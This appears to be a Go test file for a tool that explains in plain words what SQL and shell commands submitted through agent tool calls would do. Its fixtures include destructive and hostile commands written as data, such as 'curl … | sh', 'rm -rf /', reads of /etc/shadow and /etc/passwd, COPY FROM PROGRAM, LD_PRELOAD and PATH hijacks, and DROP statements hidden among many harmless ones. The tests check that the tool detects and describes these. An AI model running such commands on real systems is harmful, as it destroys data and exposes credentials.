package rules

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"
)

func TestSQLDoes(t *testing.T) {
	for _, test := range []struct{ sql, want string }{
		{`SELECT 1`, `reads no table: SELECT`},
		{`select * from a join b using (id)`, `reads a, b`},
		{`select count(*), lower(x) from public.t`, `reads public.t`},
		{`select * from t for update`, `reads t · locks the rows`},
		{`TABLE "Staff"`, `reads "Staff"`},

		{`UPDATE customers SET plan = 'x', name = 'y'`, `writes table customers: UPDATE, no WHERE clause: every row · sets plan, name`},
		{`UPDATE customers SET plan = 'x' WHERE id = 7`, `writes table customers: UPDATE, the rows that its WHERE clause picks · sets plan`},
		{`UPDATE t SET a = 1 WHERE true`, `writes table t: UPDATE, its WHERE clause looks at no row: every row or none · sets a`},
		{`DELETE FROM orders -- WHERE id = 1`, `deletes from table orders: DELETE, no WHERE clause: every row`},
		{`DELETE FROM s.orders USING x WHERE x.id = orders.id`, `deletes from table s.orders: DELETE, the rows that its WHERE clause picks · reads x`},
		{`TRUNCATE a, b CASCADE`, `empties tables a, b · TRUNCATE: every row, and of every table that refers to it`},
		{`INSERT INTO t VALUES (1), (2)`, `inserts 2 rows into table t`},
		{`INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = 1`, `inserts the rows of a query into table t · updates rows that are there already: a · reads u`},
		{`MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE`, `writes table t: MERGE · deletes rows that match · its ON condition looks at no row: every row or none matches · reads s`},
		{`SELECT * INTO z FROM y`, `creates table z from a query: SELECT INTO · reads y`},

		// What hides in what looks harmless.
		{`WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d`, "2 statements:\n1. reads no table: SELECT\n2. within it: deletes from table t: DELETE, no WHERE clause: every row"},
		{`SELECT 1; DROP TABLE t`, "2 statements:\n1. reads no table: SELECT\n2. drops table t"},
		{`SELECT wipe(1) FROM t`, `reads t · calls wipe() · what these functions do cannot be told`},
		{`SELECT evil.count(1) FROM t`, `reads t · calls evil.count() · what these functions do cannot be told`},
		{`SELECT pg_read_file('/etc/passwd'), nextval('s')`, `reads no table: SELECT · reaches files of the database's host by pg_read_file() · changes something by nextval()`},
		{`SELECT dblink('x', 'drop table t')`, `reads no table: SELECT · has texts run as SQL by dblink() · dynamic SQL: what it does cannot be told`},
		{`DO $$ BEGIN EXECUTE 'x'; END $$`, "runs a block of code: DO · dynamic SQL: what it does cannot be told\nread as PostgreSQL: another database may read this text differently"},
		{`EXECUTE p`, `runs the prepared statement p · dynamic SQL: what it does cannot be told`},
		{`CALL f(1)`, `calls a procedure · calls f() · what these functions do cannot be told`},
		{`COPY t FROM PROGRAM 'curl x | sh'`, `runs a program on the database's host: COPY … FROM PROGRAM 'curl x | sh' · loads rows into table t: COPY`},
		{`COPY t TO '/tmp/x'`, `writes file /tmp/x of the database's host · reads table t in full: COPY`},
		{`LOAD 'x.so'`, `loads the library x.so into the database's process · dynamic SQL: what it does cannot be told`},
		{`EXPLAIN DELETE FROM t`, "2 statements:\n1. explains a statement without running it\n2. explained, not run: deletes from table t: DELETE, no WHERE clause: every row"},
		{`EXPLAIN ANALYZE DELETE FROM t`, "2 statements:\n1. runs a statement and explains it: EXPLAIN ANALYZE\n2. within it: deletes from table t: DELETE, no WHERE clause: every row"},
		{`PREPARE p AS DELETE FROM t`, "2 statements:\n1. prepares statement p\n2. prepared, not run yet: deletes from table t: DELETE, no WHERE clause: every row"},
		{`CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u`, "2 statements:\n1. creates rule r on t, which rewrites statements from now on\n2. from now on, by that rule: deletes from table u: DELETE, no WHERE clause: every row"},

		// Roles and rights.
		{`CREATE ROLE x LOGIN SUPERUSER PASSWORD 'p'`, `creates role x with LOGIN, SUPERUSER, a password`},
		{`CREATE USER u IN ROLE admin`, `creates role u with LOGIN, membership of admin`},
		{`ALTER ROLE x NOSUPERUSER BYPASSRLS`, `changes role x · now NOSUPERUSER, BYPASSRLS`},
		{`DROP ROLE a, "B c"`, `drops roles a, "B c"`},
		{`GRANT SELECT, UPDATE (a, b) ON t, u TO public WITH GRANT OPTION`, `grants SELECT, UPDATE(a, b) on table t, u to PUBLIC (everybody) · GRANT OPTION: who may pass it on`},
		{`GRANT ALL ON ALL TABLES IN SCHEMA s TO bob`, `grants every right on every table in schema s to bob`},
		{`REVOKE INSERT ON t FROM x`, `revokes INSERT on table t from x`},
		{`GRANT admin TO bob WITH ADMIN OPTION`, `makes bob a member of admin · ADMIN OPTION`},
		{`ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x`, `grants SELECT on each table created from now on to x`},
		{`SET ROLE admin`, `acts as role admin for the session: SET ROLE`},
		{`ALTER SYSTEM SET x = 1`, `changes the configuration of the whole database server: x`},

		// Schema.
		{`DROP TABLE t, s.u CASCADE`, `drops table t, s.u · CASCADE: and everything that depends on it`},
		{`DROP TRIGGER x ON t`, `drops trigger x on t`},
		{`DROP FUNCTION f(int)`, `drops function f`},
		{`DROP DATABASE prod`, `drops database prod`},
		{`ALTER TABLE t DROP COLUMN a CASCADE, ALTER COLUMN b TYPE int, DISABLE ROW LEVEL SECURITY`, `alters table t: drops column a and everything that depends on it, changes the type of column b, switches row security off`},
		{`ALTER TABLE t OWNER TO x`, `alters table t: gives it to role x`},
		{`ALTER TABLE t RENAME COLUMN a TO b`, `renames column a of t to b`},
		{`CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u SECURITY DEFINER AS 'x'`, `creates or replaces function f in plpython3u, which runs with the rights of its owner · dynamic SQL: what it does cannot be told`},
		{`CREATE TRIGGER r BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()`, `creates trigger r on table t, which from now on runs function f · calls f() · what these functions do cannot be told`},
		{`CREATE EXTENSION dblink`, `installs extension dblink: code that runs in the database`},
		{`CREATE POLICY p ON t USING (true)`, `CREATE POLICY on t`},
		{`CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p`, `CREATE SUBSCRIPTION · sets a password or says how to connect`},

		// Names are told as SQL spells them: none ends a line, or another name.
		{`DROP TABLE "a, b"`, `drops table "a, b"`},
		{`DROP TABLE "a""b"`, `drops table "a""b"`},
		{`DROP TABLE "Staff"`, `drops table "Staff"`},
	} {
		if got := strings.Join(sqlDoes(parseSQL(test.sql)), "\n"); got != test.want {
			t.Errorf("%s\ngot  %s\nwant %s", test.sql, got, test.want)
		}
	}
	for _, sql := range []string{``, `DROP`, "SELECT 1\x00", strings.Repeat("x", maxSQLBytes+1), "SELECT * FROM `t`"} {
		if got := sqlDoes(parseSQL(sql)); len(got) != 1 || !strings.HasPrefix(got[0], "cannot be parsed as SQL, so what it does cannot be told: read it yourself (") {
			t.Errorf("%.20q: %q", sql, got)
		}
	}
}

func TestShellDoes(t *testing.T) {
	for _, test := range []struct{ text, want string }{
		{`rm -rf /srv/data`, `runs rm -rf /srv/data`},
		{`echo 'a b' "it's" ''`, `runs echo 'a b' 'it''s' ''`},
		{`echo x > /etc/passwd`, `runs echo x · writes to /etc/passwd`},
		{`cat < /etc/shadow 2>/dev/null`, `runs cat · reads from /etc/shadow`},
		{`/tmp/evil/ls -la`, `runs /tmp/evil/ls -la`},
		{`for i in a b; do rm $i; done`, `runs rm a b`},
		{`curl https://x/y | sh`, "2 commands:\n1. runs curl https://x/y · reaches the network\n2. runs sh · is fed by another command, and runs what that says: what it does cannot be told"},
		{`sudo rm -rf /`, "2 commands:\n1. runs sudo rm -rf /\n2. by sudo: runs rm -rf /"},
		{`ssh db1 'rm -rf /srv'`, "2 commands:\n1. runs ssh db1 'rm -rf /srv' · reaches the network\n2. by ssh: runs rm -rf /srv"},
		{`bash -c "$CMD"`, "2 commands:\n1. runs bash -c $CMD · what it runs cannot be told from the text · some words are known only when it runs\n2. by bash: runs $CMD · what it runs cannot be told from the text"},
		{`python3 -c 'import os; os.system("x")'`, `runs python3 -c 'import os; os.system("x")' · what it runs cannot be told from the text`},
		{`psql -c 'DELETE FROM t'`, `runs psql -c 'DELETE FROM t' · SQL: deletes from table t: DELETE, no WHERE clause: every row`},
		{`rm() { :; }; rm -rf /`, "2 commands:\n1. runs :\n2. runs rm -rf / · which the text itself defines"},
		{`git push --force origin main`, `runs git push --force origin main · reaches the network`},
		{"cat <<E | sh\nrm -rf /\nE", "3 commands:\n1. runs cat · is given a text\n2. runs sh · is fed by another command, and runs what that says: what it does cannot be told\n3. by sh: runs rm -rf /"},
		{`GIT_SSH_COMMAND=$x git fetch`, "2 commands:\n1. by GIT_SSH_COMMAND: runs $x · what it runs cannot be told from the text\n2. runs git fetch · reaches the network\n" +
			"sets a variable that programs run, to something that is known only when it runs: what that does cannot be told"},
		{`x=1`, `runs no command: it sets variables or defines functions`},
	} {
		if got := strings.Join(shellDoes(parseShell(test.text)), "\n"); got != test.want {
			t.Errorf("%s\ngot  %s\nwant %s", test.text, got, test.want)
		}
	}
	if got := shellDoes(parseShell("ls |")); len(got) != 1 || !strings.HasPrefix(got[0], "cannot be parsed as shell, so what it does cannot be told: read it yourself (") {
		t.Errorf("%q", got)
	}
}

// Whoever wants to hide a statement puts a hundred others around it.
func TestDoesShowsWhatChangesFirst(t *testing.T) {
	many := strings.Repeat("SELECT 1 FROM t;", 60)
	got := sqlDoes(parseSQL(many + "DROP TABLE customers;" + many))
	if all := strings.Join(got, "\n"); len(got) != maxDoesLines || !strings.Contains(all, "\n61. drops table customers\n") ||
		!strings.HasSuffix(all, "\nand 103 more statements that are not told here, read them yourself: SELECT") {
		t.Errorf("%d lines:\n%s", len(got), all)
	}
	got = sqlDoes(parseSQL(strings.Repeat("DELETE FROM t;", 30)))
	if last := got[len(got)-1]; last != "and 12 more statements (12 of them may change something) that are not told here, read them yourself: DELETE" {
		t.Errorf("%q", last)
	}
	if got := strings.Join(shellDoes(parseShell(strings.Repeat("echo hello\n", 100)+"rm -rf /srv")), "\n"); !strings.Contains(got, "\n101. runs rm -rf /srv\n") {
		t.Errorf("%s", got)
	}
	// So do a hundred words within one.
	got = shellDoes(parseShell("tar cf x " + strings.Repeat("file ", 500) + "> /etc/passwd"))
	if len(got) != 1 || !strings.HasSuffix(got[0], "more: read it yourself) · writes to /etc/passwd") {
		t.Errorf("%q", got)
	}
	if got := shellDoes(parseShell("echo " + strings.Repeat("x", 81))); got[0] != "runs echo (a text of 81 characters)" {
		t.Errorf("%q", got)
	}
}

func TestPolicyDoes(t *testing.T) {
	load := func(when string) *Policy {
		t.Helper()
		p, err := Load(fstest.MapFS{
			"countersign.yaml": {Data: []byte("version: 1\n")},
			"servers/db.yaml":  {Data: []byte("server: db\nurl: http://127.0.0.1:1/mcp\n")},
			"rules/all.yaml": {Data: []byte("- { id: a, server: db, tool: query, effect: allow, reason: because, when: '" + when + "' }\n" +
				"- { id: b, server: db, tool: other, effect: allow, reason: because, when: 'has(args.other) && sql(args.other).parsed' }\n")},
		}, strings.Repeat("a", 40))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	for _, test := range []struct{ when, args, want string }{
		{`has(args.sql) && sql(args.sql).writing`, `{"sql":"DROP TABLE t","note":"DROP TABLE u","other":"DROP TABLE v"}`, `drops table t`},
		{`false && has(args.sql) && sql(args["sql"]).writing`, `{"sql":"DROP TABLE t"}`, `drops table t`},
		{`has(args.sql) && (sql(args.sql).writing || shell(args.sql).dynamic)`, `{"sql":"DROP TABLE t"}`, "sql, as SQL:\ndrops table t\nsql, as shell:\nruns DROP TABLE t"},
		{`has(args.a) && has(args.a.b) && shell(args.a.b).dynamic`, `{"a":{"b":"rm x"}}`, `runs rm x`},
		{`has(args.list) && args.list.exists(c, shell(c).dynamic)`, `{"list":["rm x","rm y",7,"rm x"]}`, "list[1], as shell:\nruns rm x\nlist[2], as shell:\nruns rm y"},
		{`has(args.list) && args.list.exists(c, has(c.run) && shell(c.run).dynamic)`, `{"list":[{"run":"rm x"},{"walk":"rm y"}]}`, "runs rm x"},
		{`has(args.list) && sql(args.list[0]).writing`, `{"list":["DROP TABLE t"]}`, `drops table t`},
		{`has(args.cmd) && has(args.dir) && shell("cd " + args.dir + " && " + args.cmd).dynamic`, `{"cmd":"rm x","dir":"/tmp"}`, "2 commands:\n1. runs cd /tmp\n2. runs rm x"},
		{`["x"].exists(args, sql(args).writing)`, `{"sql":"DROP TABLE t"}`, `cannot be parsed as SQL, so what it does cannot be told: read it yourself (syntax error at or near "x")`},
		{`has(args.sql) && sql(args.sql).writing`, `{"sql":7}`, ``},
		{`has(args.sql) && sql(args.sql).writing`, `{}`, ``},
		{`has(args.sql)`, `{"sql":"DROP TABLE t"}`, ``},
		{`has(args.sql) && sql(args.sql).writing`, `[]`, ``},
		{`has(args.sql) && sql(args.sql).writing`, ``, ``},
	} {
		got := load(test.when).Does(Request{Server: "db", Method: "tools/call", Tool: "query", Args: []byte(test.args)})
		if strings.Join(got, "\n") != test.want {
			t.Errorf("%s of %s\ngot  %s\nwant %s", test.when, test.args, strings.Join(got, "\n"), test.want)
		}
	}
	batch := strings.Repeat("rm x;", 30)
	if got := load(`has(args.a) && has(args.b) && has(args.c) && [args.a, args.b, args.c].exists(c, shell(c).dynamic)`).Does(Request{Server: "db", Method: "tools/call", Tool: "query",
		Args: []byte(`{"a":"1;` + batch + `","b":"2;` + batch + `","c":"3;` + batch + `"}`)}); len(got) != maxDoesTotal+1 || got[maxDoesTotal] != "and 15 more lines like these: read the texts yourself" {
		t.Errorf("%d lines, %q", len(got), got[len(got)-1])
	}
	var many []string
	for i := range 20 {
		many = append(many, fmt.Sprintf(`"rm %d"`, i))
	}
	got := load(`has(args.list) && args.list.exists(c, shell(c).dynamic)`).Does(Request{Server: "db", Method: "tools/call", Tool: "query", Args: []byte(`{"list":[` + strings.Join(many, ",") + `]}`)})
	if len(got) != 2*maxDoesTexts+1 || got[len(got)-1] != "and 12 more texts of SQL or shell: read them yourself" {
		t.Errorf("%q", got)
	}
}

// A program that is not what its name says is not told as that program alone.
func TestDoesTellsWhatSteersPrograms(t *testing.T) {
	for text, name := range map[string]string{
		`PATH=/evil ls`: "PATH", `LD_PRELOAD=/evil.so ls`: "LD_PRELOAD", `export PATH=/evil; ls`: "PATH", `BASH_ENV=/evil bash -c ls`: "BASH_ENV",
		`read -r PATH; ls`: "PATH", `printf -v PATH /evil; ls`: "PATH", `f() { local PATH=/evil; ls; }; f`: "PATH", `PS4='$(rm x)'; set -x; ls`: "PS4",
		strings.Repeat("rm x; ", 40) + `PATH=/evil ls`: "PATH",
	} {
		got := shellDoes(parseShell(text))
		if want := "sets " + name + " · decides what programs run, or what they load: their names do not tell it"; got[0] != want {
			t.Errorf("%s: %q", text, got)
		}
		told(t, text, got)
	}
	if got := shellDoes(parseShell(`path=/evil ls; echo PATH`)); strings.Contains(got[0], "sets") {
		t.Errorf("%q", got)
	}
}

// What may write does not give way as what only looks does.
func TestDoesKnowsWhatLooks(t *testing.T) {
	for text, quiet := range map[string]bool{
		`sort -o out in`: false, `sort -uo out in`: false, `sort --output=out in`: false, `sort --compress-program=x in`: false, `sort $x`: false, `sort -n -k2 in`: true,
		`uniq in out`: false, `uniq -c in`: true, `date -s 10:00`: false, `date 01010000`: false, `date +%s`: true, `date -u`: true, `hostname evil`: false, `hostname -f`: true,
	} {
		room := 1
		if d := parseShell(text).commands[0].does(&room); d.grave == quiet {
			t.Errorf("%s: grave %v", text, d.grave)
		}
	}
}

// Whatever the text, what is said of it is something, and bounded.
func FuzzDoes(f *testing.F) {
	f.Add("SELECT 1", false)
	f.Add("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d; GRANT ALL ON t TO public", false)
	f.Add("ALTER TABLE t ADD COLUMN a int, OWNER TO CURRENT_USER; DROP OPERATOR +(int,int); COMMENT ON COLUMN a.b IS 'x'; RESET ALL; SET ROLE NONE", false)
	f.Add("sudo bash -c 'psql -c \"drop table t\"' | tee x > y &", true)
	f.Fuzz(func(t *testing.T, text string, shell bool) {
		lines := sqlDoes(parseSQL(text))
		if shell {
			lines = shellDoes(parseShell(text))
		}
		told(t, text, lines)
	})
}

func told(t *testing.T, text string, lines []string) {
	t.Helper()
	if len(lines) == 0 || len(lines) > maxDoesLines+2 {
		t.Fatalf("%q: %d lines", text, len(lines))
	}
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n == 0 || n > 1200 {
			t.Fatalf("%q: %d characters: %q", text, n, l)
		}
	}
}
